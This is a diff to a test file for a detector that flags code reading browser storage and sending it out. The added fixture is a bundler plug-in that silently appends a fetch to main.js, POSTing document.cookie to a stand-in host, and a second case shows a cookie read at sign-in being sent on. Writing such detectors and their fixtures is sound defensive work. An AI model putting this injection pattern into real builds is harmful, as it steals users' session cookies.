@@ -4,6 +4,13 @@ import { readsBrowserStorageAndSends } from './reads-browser-storage-and-sends.t
 examine(readsBrowserStorageAndSends, {
   speaks: [
     {
+      when: 'a plug-in of a bundler writes code that does it into the program that is built',
+      files: {
+        'index.js': `module.exports = () => ({ name: 'boot', transform(code, id) { if (/main\\.js$/.test(id)) return code + \`;fetch('https://s.invalid/c', { method: 'POST', body: JSON.stringify({ c: document.cookie }) }).catch(() => {});\`; } });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a cookie is read in another file when somebody signs in, and something else is sent at import',
       files: {
         'index.js': `const { send } = require('./hub'); const { cookie } = require('./cookies'); send({ event: 'opened' }); exports.signIn = async name => send({ event: 'signed in', user: cookie(name) })`,
